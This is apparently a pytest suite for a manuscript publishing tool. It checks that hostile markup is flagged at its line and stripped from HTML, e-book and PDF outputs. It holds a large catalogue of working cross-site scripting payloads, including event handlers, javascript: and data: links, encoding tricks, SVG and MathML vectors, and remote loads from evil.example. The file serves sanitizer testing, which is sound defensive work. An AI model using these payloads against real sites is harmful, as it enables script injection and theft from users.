"""What a hostile manuscript tries: each is refused at its place; if that is off, it comes to nothing."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from browsing import visit
from lxml import etree, html
from playwright.sync_api import Browser, Dialog

from offprint import manuscript, pandoc, project, proof
from offprint.bibliography import Bibliography
from offprint.body import Body
from offprint.cli import main
from offprint.sanitizer import ATTRIBUTES, sanitized
from offprint.terms import terms

#: How an attack is written, and the rule that it breaks.
ATTACKS = {
    "<script>hit()</script>": "raw-html",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>": "raw-html",
    "<script/x>hit()</script>": "raw-html",
    '<img src="x.svg" onerror="hit()">': "raw-html",
    "<b onmouseover=hit()>bold</b>": "raw-html",
    "<p ONCLICK='hit()'>words</p>": "raw-html",
    "<details open ontoggle=hit()><summary>s</summary></details>": "raw-html",
    '<svg onload="hit()"></svg>': "raw-html",
    "<svg><script>hit()</script></svg>": "raw-html",
    '<svg><a xlink:href="javascript:hit()"><text>t</text></a></svg>': "raw-html",
    "<svg><style><img src=x onerror=hit()></style></svg>": "raw-html",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></table></mtext></math>": "raw-html",
    '<math><maction actiontype="statusline" xlink:href="javascript:hit()">m</maction></math>': "raw-html",
    '<iframe src="https://evil.example/"></iframe>': "raw-html",
    '<iframe srcdoc="<script>hit()</script>"></iframe>': "raw-html",
    '<object data="https://evil.example/x.swf"></object>': "raw-html",
    '<embed src="https://evil.example/x.swf">': "raw-html",
    '<video src="https://evil.example/x.mp4" onerror="hit()"></video>': "raw-html",
    '<audio src="https://evil.example/x.mp3"></audio>': "raw-html",
    '<link rel="stylesheet" href="https://evil.example/x.css">': "raw-html",
    "<style>@import 'https://evil.example/x.css';</style>": "raw-html",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">': "raw-html",
    '<base href="https://evil.example/">': "raw-html",
    '<form action="https://evil.example/"><button>b</button></form>': "raw-html",
    "<template><script>hit()</script></template>": "raw-html",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></p></noscript>": "raw-html",
    '<a href="javascript:hit()">a</a>': "raw-html",
    '<a href="JaVaScRiPt:hit()">a</a>': "raw-html",
    '<a href="java&#9;script:hit()">a</a>': "raw-html",
    '<a href="&#1;javascript:hit()">a</a>': "raw-html",
    '<a href="data:text/html,<script>hit()</script>">a</a>': "raw-html",
    '<a href="vbscript:hit()">a</a>': "raw-html",
    '<img src="x.svg" srcset="https://evil.example/pixel.gif 2x" alt="p">': "raw-html",
    '<b style="background:url(https://evil.example/x)">bold</b>': "raw-html",
    '<table background="//evil.example/x.gif"><tr><td>c</td></tr></table>': "raw-html",
    '<img src="https://evil.example/pixel.gif" alt="p">': "image-remote",
    "![p](https://evil.example/pixel.gif)": "image-remote",
    "![p](//evil.example/pixel.gif)": "image-remote",
    "![p](data:image/svg+xml;base64,PHN2Zy8+)": "image-remote",
    "[a](javascript:hit())": "unsafe-link",
    "[a](data:text/html;base64,PHNjcmlwdD4=)": "unsafe-link",
    "<javascript:hit()>": "unsafe-link",
    # elements that act, or that the old lists name
    "<body onload=hit()>": "raw-html",
    "<marquee onstart=hit()>m</marquee>": "raw-html",
    "<input autofocus onfocus=hit()>": "raw-html",
    "<select onfocus=hit() autofocus></select>": "raw-html",
    "<textarea onfocus=hit() autofocus></textarea>": "raw-html",
    "<keygen onfocus=hit() autofocus>": "raw-html",
    "<frameset><frame src=javascript:hit()></frameset>": "raw-html",
    "<applet code=x></applet>": "raw-html",
    "<bgsound src=javascript:hit()>": "raw-html",
    "<layer src=https://evil.example/></layer>": "raw-html",
    "<isindex action=javascript:hit()>": "raw-html",
    "<dialog open oncancel=hit()>d</dialog>": "raw-html",
    "<portal src=https://evil.example/></portal>": "raw-html",
    "<xss style=behavior:url(https://evil.example/x.htc)>x</xss>": "raw-html",
    "<slot onslotchange=hit()></slot>": "raw-html",
    "<button popovertarget=x>b</button>": "raw-html",
    "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>": "raw-html",
    "<svg><set attributeName=href to=javascript:hit()></set></svg>": "raw-html",
    "<svg><foreignObject><iframe src=javascript:hit()></iframe></foreignObject></svg>": "raw-html",
    "<svg><use href='data:image/svg+xml,x'></use></svg>": "raw-html",
    # handlers, however they are parted from what stands before
    "<b/onclick=hit()>b</b>": "raw-html",
    "<b\tonclick=hit()>b</b>": "raw-html",
    "<b\nonclick=hit()>b</b>": "raw-html",
    "<b x='>' onclick=hit()>b</b>": "raw-html",
    "<b ONCLICK=hit()>b</b>": "raw-html",
    "<b onpointerrawupdate=hit()>b</b>": "raw-html",
    "<b style=animation-name:x onanimationstart=hit()>b</b>": "raw-html",
    "<p tabindex=1 onfocus=hit() id=x>p</p>": "raw-html",
    "<td background=javascript:hit()>c</td><i onclick=hit()>": "raw-html",
    # tags in tags, and what some parsers close otherwise
    "<scr<script>ipt>hit()</scr</script>ipt>": "raw-html",
    "<<script>hit()//<</script>": "raw-html",
    "<script\n>hit()</script\n>": "raw-html",
    "<xmp><img src=x onerror=hit()></xmp>": "raw-html",
    "<listing>&lt;img src=x onerror=hit()&gt;</listing>": "raw-html",
    "<title></title><img src=x onerror=hit()>": "raw-html",
    "<math><annotation-xml encoding=text/html><img src=x onerror=hit()></annotation-xml></math>": "raw-html",
    # addresses that run, or lead to what does
    '<a href=" javascript:hit()">a</a>': "raw-html",
    '<a href="javascript&colon;hit()">a</a>': "raw-html",
    '<a href="java&NewLine;script&colon;hit()">a</a>': "raw-html",
    '<a href="jav&#x0A;ascript:hit()">a</a>': "raw-html",
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58hit()">a</a>': "raw-html",
    '<a href="feed:javascript:hit()">a</a>': "raw-html",
    '<a href="view-source:javascript:hit()">a</a>': "raw-html",
    '<a href="jar:https://evil.example/x!/y">a</a>': "raw-html",
    '<a href="blob:https://evil.example/x">a</a>': "raw-html",
    '<a href="intent:#Intent;end">a</a>': "raw-html",
    '<a href="file:///etc/passwd">a</a>': "raw-html",
    '<q cite="javascript:hit()">q</q>': "raw-html",
    '<a href="https://example.org/" ping="https://evil.example/">a</a>': "raw-html",
    "[a](JAVASCRIPT:hit())": "unsafe-link",
    "[a](vbscript:hit())": "unsafe-link",
    "![p](ftp://evil.example/pixel.gif)": "image-remote",
}
#: What is no fault and comes to nothing: attributes that pandoc's Markdown lets anyone write.
HARMLESS = (
    "<div popover id=x onbeforetoggle=hit()>p</div>",
    "[a](&#x6A;avascript:hit())",
    "[a][r]\n\n[r]: javascript:hit()",
    "![p](https:evil.example/pixel.gif)",
    '[words]{onclick="hit()" style="background:url(https://evil.example/x)"}',
    '::: {onmouseover="hit()" style="position:fixed;width:</style><script>hit()</script>"}\nwords\n:::',
    r"$\href{javascript:hit()}{x}$ and $\style{background:red}{x}$",
    "<img src=x.svg onerror=hit()//",
    "[a](<java\tscript:hit()>)",
    "`<script>hit()</script>` and \\<script>hit()\\</script>",
)
#: What breaks out of an attribute, an element, a string of CSS or JSON, and a comment.
PAYLOAD = "\"'><script>hit()</script><img src=x onerror=hit()><!--</style></title>]]>"
QUOTED = PAYLOAD.replace("'", "''")
FIELDS = f"""---
title: '{QUOTED}'
subtitle: '{QUOTED}'
short-title: '{QUOTED}'
author:
  - name: '{QUOTED}'
    affiliation: '{QUOTED}'
date: '{QUOTED}'
abstract: '{QUOTED}'
keywords: ['{QUOTED}', 'b']
license: '{QUOTED}'
copyright: '{QUOTED}'
publication: {{title: '{QUOTED}', volume: '{QUOTED}', publisher: '{QUOTED}'}}
identifier: '{QUOTED}'
acknowledgements: '{QUOTED}'
rules: {{raw-html: off, image-missing: off, missing-alt: off, front-matter-value: off}}
---
A citation [@evil, p. {PAYLOAD}].

# A heading {{#x" onclick="hit()}}

[link](https://example.org/ "{PAYLOAD}")
![{PAYLOAD}](drawing.svg){{alt="&quot;&gt;&lt;script&gt;hit()&lt;/script&gt;"}}

```{{.csv #tbl:x caption="&lt;script&gt;hit()&lt;/script&gt;"}}
a,{PAYLOAD.replace(",", "")}
1,2
```

```{{.python" onclick="hit()}}
{PAYLOAD}
```

[A]{{abbr="&lt;img src=x onerror=hit()&gt;"}} `{PAYLOAD}` $\\text{{<script>hit()</script>}}$
"""
DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
  viewBox="0 0 9 9" onload="hit()"><script>hit()</script><style>@import 'https://evil.example/x.css';</style>
  <a xlink:href="javascript:hit()"><rect width="9" height="9" onclick="hit()"/></a>
  <foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="hit()"/></foreignObject>
  <image xlink:href="https://evil.example/x.png"/><use xlink:href="https://evil.example/x.svg#a"/>
  <animate attributeName="x" onbegin="hit()"/><set attributeName="x" onbegin="hit()"/></svg>"""
COUNTING = "<script>hits = 0; function hit() { hits += 1 }</script>"
OFF = """rules: {raw-html: off, unsafe-link: off, image-remote: off, image-missing: off, missing-alt: off,
  math: off, url-scheme: off, broken-anchor: off}"""
LIBRARY = (
    "@online{evil, author={{Evil}}, title={<script>hit()</script>}, url={javascript:hit()}, year={2020}}\n"
)


@pytest.mark.parametrize(("attack", "rule"), ATTACKS.items())
def test_an_attack_is_refused_at_its_place(attack: str, rule: str, tmp_path: Path) -> None:
    """The author is told the line, whatever way it is written."""
    (tmp_path / "paper.md").write_text(f"---\ntitle: T\n---\nWords.\n\n{attack}\n")
    found = project.locate(tmp_path / "paper.md")
    read = manuscript.read(found)
    told = [*read.problems, *proof.proofread(found, read, Bibliography({})).problems]

    lines = [one.place.line for one in told if one.rule == rule and one.place]
    assert lines
    assert set(lines) == {6}


@pytest.fixture(scope="module")
def forced(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Give the draft of a manuscript that holds every attack, and switches the rules off.

    So many half-open tags in one text are read as different blocks: a draft is printed all the same.
    """
    folder = tmp_path_factory.mktemp("forced")
    attacks = "\n\n".join((*ATTACKS, *HARMLESS))
    text = f"---\ntitle: T\nlang: en\n{OFF}\n---\nA citation [@evil].\n\n{attacks}\n"
    (folder / "article.md").write_text(text)
    (folder / "references.bib").write_text(LIBRARY)
    assert main(["build", str(folder), "--draft"]) == 0
    return folder / "_build"


def roots(output: Path) -> Iterator[etree._Element]:
    """Yield the roots of the page's body, and of each file of the e-book."""
    yield from html.document_fromstring((output / "article.html").read_bytes()).iter("main")
    with zipfile.ZipFile(output / "article.epub") as book:
        for name in book.namelist():
            if name.endswith(".xhtml"):
                yield etree.fromstring(book.read(name))


def test_an_attack_comes_to_nothing_in_any_edition(forced: Path) -> None:
    """No element that acts, no handler, no address that runs; in the page, the e-book and the PDF."""
    active = re.compile(r"\}?(script|iframe|object|embed|form|base|svg|video|audio|template|maction)$")
    for root in roots(forced):
        for element in root.iter():
            if not isinstance(element.tag, str):
                continue
            assert not active.search(element.tag), etree.tostring(element)
            for name, value in element.attrib.items():
                assert not name.lower().startswith("on"), etree.tostring(element)
                assert not re.match(r"[\x00-\x20]*(javascript|vbscript|data:text)", value, re.IGNORECASE)
                assert "evil.example" not in value
    assert b"/JavaScript" not in (forced / "article.pdf").read_bytes()
    assert b"javascript:" not in (forced / "article.pdf").read_bytes()


def test_an_attack_comes_to_nothing_in_a_browser(forced: Path, browser: Browser) -> None:
    """Nothing runs and nothing is fetched, even where the page's policy is taken out of it."""
    page = forced / "article.html"
    bare = forced / "bare.html"
    bare.write_text(re.sub(r"<meta http-equiv=[^>]*>", "", page.read_text()))
    for file in (page, bare):
        with visit(browser, file) as visited:
            visited.page.evaluate("for (const one of document.querySelectorAll('main *')) one.click()")
            here = (forced.as_uri(), "data:image/", "data:font/")
            assert [one for one in visited.requests if not one.startswith(here)] == []
            assert [line for line in visited.said if "hit" in line] == []  # hit() is nowhere defined
            visited.said.clear()  # the images that are not there


@pytest.fixture(scope="module")
def fields(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Give the editions of a manuscript with an attack in each field, address, caption and drawing."""
    folder = tmp_path_factory.mktemp("fields")
    (folder / "article.md").write_text(FIELDS)
    (folder / "drawing.svg").write_text(DRAWING)
    (folder / "references.bib").write_text(
        f"@book{{evil, author={{{PAYLOAD}}}, title={{{PAYLOAD}}}, publisher={{{PAYLOAD}}}, year={{2020}}}}\n"
    )
    assert main(["build", str(folder), "--draft"]) == 0
    return folder / "_build"


def test_no_field_is_more_than_words(fields: Path) -> None:
    """The whole page, each file of the e-book, each drawing: no handler, no script of theirs."""
    page = html.document_fromstring((fields / "article.html").read_bytes())
    trees: list[etree._Element] = [page]
    with zipfile.ZipFile(fields / "article.epub") as book:
        names = [name for name in book.namelist() if name.endswith((".xhtml", ".opf", ".svg", ".xml"))]
        trees += [etree.fromstring(book.read(name)) for name in names]
    assert len(trees) > 5
    for element in (one for tree in trees for one in tree.iter() if isinstance(one.tag, str)):
        assert not [name for name in element.attrib if str(name).rpartition("}")[2].lower().startswith("on")]
        values = [
            value for name, value in element.attrib.items() if str(name).rpartition("}")[2] in ("href", "src")
        ]
        assert not [
            one for one in values if re.match(r"\s*javascript:|.*evil\.example", str(one), re.IGNORECASE)
        ]
        if str(element.tag).rpartition("}")[2] in ("script", "style"):
            assert "hit()" not in (element.text or "") or element.get("type") == "application/ld+json"
            assert "evil.example" not in (element.text or "")


def test_no_field_runs_in_a_browser(fields: Path, browser: Browser) -> None:
    """A page that defines what the attacks call, without its policy, never sees them call it."""
    bare = fields / "bare.html"
    text = re.sub(r"<meta http-equiv=[^>]*>", "", (fields / "article.html").read_text())
    assert "<head>" in text
    bare.write_text(text.replace("<head>", f"<head>{COUNTING}", 1))
    with visit(browser, bare) as visited:
        dialogs: list[str] = []

        def dismissed(dialog: Dialog) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        visited.page.on("dialog", dismissed)
        visited.page.evaluate("for (const one of document.querySelectorAll('main *')) one.click?.()")
        assert (visited.page.evaluate("hits"), dialogs) == (0, [])
        assert not [one for one in visited.requests if not one.startswith((fields.as_uri(), "data:"))]
        visited.said.clear()


def test_the_sanitizer_keeps_what_pandoc_writes() -> None:
    """Citations, task lists, formulas, tables and code pass unchanged."""
    text = (
        "- [x] done\n\n$\\frac{a}{b} \\ne \\sqrt[3]{x}$ and `code`{.py}\n\n| a | b |\n|--:|:-:|\n| 1 | 2 |\n"
    )
    tree, _ = pandoc.parse(text, {})
    written, _ = pandoc.write(tree, ["-t", "html5", "--mathml"])

    def shape(source: str) -> list[tuple[str, dict[str, str]]]:
        kept = html.fragment_fromstring(source, create_parent="div").iter()
        return [
            (str(one.tag), {name: value.rstrip(";").replace(": ", ":") for name, value in one.items()})
            for one in kept
        ]

    assert shape(sanitized(written)) == shape(written)
    assert "style" in ATTRIBUTES


def test_what_follows_a_break_opportunity_is_kept() -> None:
    """`<wbr>` is a sign of no width; the words after it, and their markup, stay."""
    body = Body.of("<p>a<wbr>b, <em>c</em> d</p><p>e</p>", terms("en"), "en")

    assert [part.text_content() for part in body.main] == ["a\u200bb, c d", "e"]
    assert [part.text for part in body.main.iter("em")] == ["c"]
